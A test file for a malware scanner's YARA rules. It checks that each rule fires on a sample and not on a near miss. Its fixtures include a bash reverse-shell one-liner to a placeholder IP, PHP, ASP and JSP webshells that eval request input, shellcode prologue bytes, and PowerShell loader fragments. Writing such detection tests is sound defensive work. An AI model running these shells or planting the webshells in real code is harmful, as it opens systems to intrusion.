// YARA rules: those that ship compile and find what they describe, a bad one costs itself, nothing is read from disk.
import assert from 'node:assert/strict'
import { test } from 'node:test'
import { analyzeFile } from '../../../src/file/analyze.ts'
import { bundledYaraRules } from '../../../src/file/rules/bundled.ts'
import { findInclude } from '../../../src/file/rules/find-include.ts'
import { compileYara } from '../../../src/file/rules/yara.ts'
import { problemText } from '../../../src/rules/rule-source.ts'
import { buildPe } from '../pe/build-pe.ts'

const bundled = compileYara(bundledYaraRules())
const skip = bundled.scan === null ? 'YARA-X has no build for this machine' : false
const scan = bundled.scan ?? (() => [])
const xor = (bytes: Uint8Array, key: number): Uint8Array => bytes.map((byte) => byte ^ key)
const eicar = 'X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR' + '-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*'
const hex = (text: string): Buffer => Buffer.from(text.replaceAll(' ', ''), 'hex')

const CASES: readonly (readonly [rule: string, hit: Uint8Array | string, miss: Uint8Array | string])[] = [
  ['eicar_test_file', eicar, `see ${eicar}`],
  [
    'shellcode_api_hash_x86',
    hex('FC E8 82 00 00 00 60 89 E5 31 C0 64 8B 50 30 8B 52 0C 8B 52 14 00'),
    hex('FC E8 82 00 00 00 60 89 E5 31 C0'),
  ],
  [
    'shellcode_api_hash_x64',
    hex('FC 48 83 E4 F0 E8 C0 00 00 00 41 51 41 50 52 51 56 48 31 D2 65 48 8B 52 60'),
    hex('FC 48 83 E4 F0 E8 C0 00 00 00'),
  ],
  ['program_in_base64', `x="${Buffer.from(buildPe()).toString('base64')}"`, 'x="SGVsbG8sIHdvcmxk"'],
  ['program_in_xor', xor(buildPe(), 0x41), buildPe()],
  ['program_in_hexadecimal', Buffer.from(buildPe()).toString('hex'), 'deadbeef'.repeat(50)],
  [
    'program_in_reversed_base64',
    [...Buffer.from(buildPe()).toString('base64')].reverse().join(''),
    Buffer.from(buildPe()).toString('base64'),
  ],
  ['tampered_upx', buildPe({ sections: [] }), buildPe()],
  ['webshell_php_request_to_eval', '<?php eval($_POST["x"]); ?>', '<?php echo htmlspecialchars($_POST["x"]); ?>'],
  ['webshell_php_packed', '<?php eval(gzinflate(base64_decode("abc"))); ?>', '<?php echo base64_decode("abc"); ?>'],
  ['webshell_asp_request_to_eval', '<% eval request("x") %>', '<% response.write request("x") %>'],
  [
    'webshell_jsp_request_to_exec',
    '<% Runtime.getRuntime().exec(request.getParameter("c")); %>',
    '<% out.print(request.getParameter("c")); %>',
  ],
  ['reverse_shell_one_liner', 'bash -i >& /dev/tcp/192.0.2.1/4444 0>&1', 'bash -i'],
  [
    'powershell_memory_loader',
    '$c=[Convert]::FromBase64String($x); VirtualAlloc; [Marshal]::Copy; GetDelegateForFunctionPointer',
    '[Convert]::FromBase64String($x)',
  ],
  [
    'ransom_note_text',
    'Your files have been encrypted. Download from torproject.org and send 0.5 BTC',
    'Your files have been saved.',
  ],
  [
    'miner_configuration',
    '{"algo":"rx/0","coin":"x","donate-level":1,"pools":[{}]}',
    '{"pools":["a"],"name":"swimming"}',
  ],
  ['rtf_equation_object', '{\\rtf1{\\object\\objupdate 4571756174696f6E2e33}}', '{\\rtf1 4571756174696f6E2e33}'],
  ['mhtml_activemime_macro', 'MIME-Version: 1.0\n\nQWN0aXZlTWltZQAAAf', 'MIME-Version: 1.0\n\nhello'],
  [
    'shortcut_runs_encoded_command',
    Buffer.concat([hex('4c000000 01140200'), Buffer.from(`-enc ${'QUJD'.repeat(20)}`)]),
    Buffer.concat([hex('4c000000 01140200'), Buffer.from('notepad.exe a.txt')]),
  ],
]

test('every bundled rule compiles, says what it is and is tested', { skip }, () => {
  assert.deepEqual(bundled.problems, [])
  const rules = bundledYaraRules().flatMap(({ text }) =>
    [...text.matchAll(/^rule (\w+)/gm)].map(([, name]) => name ?? ''),
  )
  assert.deepEqual(rules.toSorted(), CASES.map(([name]) => name).toSorted())
  for (const { text } of bundledYaraRules()) {
    const blocks = text.split(/^rule /m).slice(1)
    for (const block of blocks)
      for (const key of ['description', 'score', 'attack', 'false_positives'])
        assert.match(block, new RegExp(`\\b${key} = `))
  }
})

for (const [rule, hit, miss] of CASES.filter(([rule]) => rule !== 'tampered_upx')) {
  test(`${rule} matches what it describes and not its neighbour`, { skip }, () => {
    assert.ok(scan(Buffer.from(hit)).some((one) => one.rule === rule))
    assert.ok(!scan(Buffer.from(miss)).some((one) => one.rule === rule))
  })
}

test('tampered_upx matches a packed file without the mark of the packer', { skip }, () => {
  const packed = Buffer.from(buildPe({ sections: [{ name: 'x', data: new Uint8Array(8) }] }))
  const at = packed.indexOf('.text')
  packed.write('UPX0\0', at, 'latin1')
  assert.ok(scan(packed).some(({ rule }) => rule === 'tampered_upx'))
  assert.ok(!scan(Buffer.concat([packed, Buffer.from('UPX!')])).some(({ rule }) => rule === 'tampered_upx'))
})

test('a bad rule is told with its file and line, and the others work', { skip }, () => {
  const rules = compileYara([
    { name: 'bad.yar', namespace: 'user', text: 'rule bad {\n  condition: nothing_known }' },
    { name: 'good.yar', namespace: 'user', text: 'rule good { strings: $a = "needle" condition: $a }' },
  ])
  assert.deepEqual(rules.problems.map(problemText), [
    'bad.yar:2: unknown identifier `nothing_known` (this identifier has not been declared)',
  ])
  assert.deepEqual(
    rules.scan?.(Buffer.from('a needle')).map(({ rule }) => rule),
    ['good'],
  )
})

test("of two rules of one name the user's stands, whether it matches or not", { skip }, () => {
  const named = (namespace: string, text: string, name = 'shared') => ({
    name: `${namespace}-${name}.yar`,
    namespace,
    text: `rule ${name} { strings: $a = "${text}" condition: $a }`,
  })
  const { scan } = compileYara([named('assay', 'needle'), named('assay', 'needle', 'other'), named('user', 'pin')])
  const found = (text: string) => scan?.(Buffer.from(text)).map(({ rule, namespace }) => `${namespace}/${rule}`)
  assert.deepEqual(found('a needle'), ['assay/other'])
  assert.deepEqual(found('a pin'), ['user/shared'])
})

test('include is refused, wherever it stands, and only where it is one', () => {
  for (const text of [
    'include "/etc/passwd"',
    'import "pe" include "x"',
    '/* c */ include\n"x"',
    'rule a { condition: true } include "x"',
  ]) {
    assert.notEqual(findInclude(text), null, text)
  }
  for (const text of [
    'rule a { strings: $a = " include " condition: $a }',
    '// include "x"\nrule a { condition: true }',
    'rule include_a { strings: $include = /include "x"/ condition: $include }',
  ]) {
    assert.equal(findInclude(text), null, text)
  }
})

test('a rule that backtracks without end is stopped by its own limit', { skip, timeout: 60_000 }, () => {
  const rules = compileYara(
    [{ name: 'slow.yar', namespace: 'user', text: 'rule slow { strings: $a = /(a+)+b/ condition: $a }' }],
    { scanMsMax: 1000 },
  )
  assert.throws(() => rules.scan?.(Buffer.alloc(60_000, 0x61)), /timed out/i)
})

test('matches become findings that weigh by the score of the rule', { skip }, async () => {
  const judged = async (text: string) =>
    analyzeFile(Buffer.from(text), { fileName: 'a.txt', now: new Date(0), scanRules: async (bytes) => scan(bytes) })
  assert.equal((await judged(eicar)).verdict.label, 'malicious')
  assert.equal(
    (await judged('Your files have been encrypted. See torproject.org, send 0.5 BTC')).verdict.label,
    'suspicious',
  )
})
